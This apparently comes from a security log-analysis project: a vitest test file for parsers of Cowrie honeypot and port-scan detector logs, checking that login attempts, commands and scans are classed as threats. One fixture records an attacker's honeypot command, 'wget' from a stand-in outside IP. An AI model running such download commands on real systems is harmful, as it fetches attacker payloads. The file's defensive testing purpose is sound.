import { describe, expect, it } from 'vitest';
import cowrie from '../../parsers/network/cowrie.ts';
import portscan from '../../parsers/network/portscan-detectors.ts';
import { eventOf, expectRobust, recordsOf } from './lines.ts';

const json = (eventid: string, more: object): string =>
  JSON.stringify({ eventid, timestamp: '2021-11-02T08:15:30.5Z', src_ip: '198.51.100.23', session: 'abc', ...more });
const TEXT = '2021-11-02T08:15:31Z [HoneyPotSSHTransport,12,198.51.100.23] ';

describe('cowrie', () => {
  it.each([
    [
      json('cowrie.login.success', { username: 'root', password: 'x' }),
      { 'user.name': 'root', 'event.outcome': 'success' },
    ],
    [
      json('cowrie.command.input', { input: 'wget http://203.0.113.9/x' }),
      { 'process.command_line': 'wget http://203.0.113.9/x' },
    ],
    [`${TEXT}login attempt [b'root'/b'1'] failed`, { 'user.name': 'root', 'event.outcome': 'failure' }],
    [`${TEXT}login attempt [root/x] succeeded] failed`, { 'event.outcome': 'failure' }],
  ])('%s is a threat, not a login into the network', (line, fields) => {
    expect(eventOf(cowrie, line)).toMatchObject({
      act: 'threat',
      fields: { ...fields, 'source.ip': '198.51.100.23', tags: ['honeypot'] },
    });
  });

  it('reads connections, and leaves the JSON of others alone', () => {
    const line = `${TEXT}New connection: 198.51.100.23:47630 (10.0.0.5:2222) [session: 3e5a]`;
    expect(eventOf(cowrie, line)).toMatchObject({
      act: 'flow-start',
      fields: { 'destination.port': 2222, 'session.id': '3e5a' },
    });
    expect(recordsOf(['{"eventid":"other.login","src_ip":"192.0.2.1"}']).map((r) => cowrie.claims?.(r))).toEqual([
      false,
    ]);
  });

  it('survives hostile lines', () =>
    expectRobust(cowrie, [json('cowrie.login.failed', {}), `${TEXT}login attempt [a/b] failed`]));
});

describe('portscan-detectors', () => {
  const S = 'Nov  2 08:15:36 fw1 ';
  it.each([
    [
      '1635837330 - 11/02/2021 08:15:30 Host: h.example/198.51.100.23 Port: 111 TCP Blocked',
      { 'event.type': ['denied'], 'destination.port': 111 },
    ],
    [
      `${S}scanlogd: 198.51.100.23 to 10.0.0.5 ports 80, 81, ..., f????uxy, TOS 00 @20:44:43`,
      { 'destination.ip': '10.0.0.5', 'portscan.ports': ['80', '81'] },
    ],
    [
      `${S}psad: scan detected: 198.51.100.23 -> 10.0.0.5 tcp: [1-1024] flags: SYN tcp pkts: 30 DL: 4`,
      { 'event.severity': 4 },
    ],
  ])('%s', (line, fields) =>
    expect(eventOf(portscan, line)).toMatchObject({
      act: 'threat',
      fields: { ...fields, 'source.ip': '198.51.100.23' },
    }),
  );

  it('keeps other messages of the detectors', () => {
    expect(eventOf(portscan, `${S}portsentry[7]: adminalert: seen 192.0.2.4`)).toMatchObject({
      act: 'other',
      fields: { 'related.ip': ['192.0.2.4'] },
    });
  });

  it('survives hostile lines', () =>
    expectRobust(portscan, [
      `${S}scanlogd: 198.51.100.23 to 10.0.0.5 ports 80, 81, f????uxy, TOS 00`,
      `${S}psad: scan detected: 1.2.3.4 -> 1.2.3.5 tcp: [1] DL: 4`,
    ]));
});
